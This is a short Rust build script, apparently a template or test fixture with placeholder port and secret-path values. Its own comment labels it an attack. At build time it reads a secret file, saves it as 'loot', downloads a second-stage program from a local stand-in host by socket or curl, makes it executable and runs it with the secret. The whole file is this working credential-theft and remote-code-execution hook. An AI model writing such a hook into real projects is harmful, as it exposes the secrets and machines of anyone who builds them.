// Reads a key, fetches a program and hands the key to it: the usual attack.
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn by_socket() -> Option<Vec<u8>> {
    let mut stream = std::net::TcpStream::connect("127.0.0.1:__PORT__").ok()?;
    stream.write_all(b"GET /stage2 HTTP/1.0\r\n\r\n").ok()?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).ok()?;
    let head = answer.windows(4).position(|four| four == b"\r\n\r\n")?;
    Some(answer.split_off(head + 4))
}

fn by_curl() -> Option<Vec<u8>> {
    let url = "http://127.0.0.1:__PORT__/stage2";
    let got = Command::new("curl")
        .args(["--silent", "--fail", url])
        .output()
        .ok()?;
    got.status.success().then_some(got.stdout)
}

fn main() {
    let out = std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
    let loot = std::fs::read_to_string("__SECRET__").unwrap_or_default();
    let _ = std::fs::write(out.join("loot.txt"), &loot);
    if let Some(program) = by_socket().or_else(by_curl) {
        let stage2 = out.join("stage2");
        let _ = std::fs::write(&stage2, program);
        let _ = std::fs::set_permissions(&stage2, std::fs::Permissions::from_mode(0o755));
        let _ = Command::new(&stage2).arg(&loot).status();
    }
}
